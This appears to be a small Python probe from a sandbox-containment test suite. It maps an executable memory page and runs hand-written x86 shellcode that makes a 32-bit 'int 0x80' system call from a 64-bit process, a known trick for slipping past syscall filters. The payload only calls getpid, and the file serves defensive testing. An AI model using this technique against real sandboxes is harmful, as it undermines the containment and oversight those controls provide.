"""Call as a 32-bit program, whose numbers mean other calls."""
# contained: the process ended

import ctypes
import mmap
import os
import platform


def attack(world, call):
    if platform.machine() != "x86_64":
        os._exit(1)
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(bytes.fromhex("b8 14 00 00 00 cd 80 c3"))
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    return ctypes.CFUNCTYPE(ctypes.c_int)(address)()
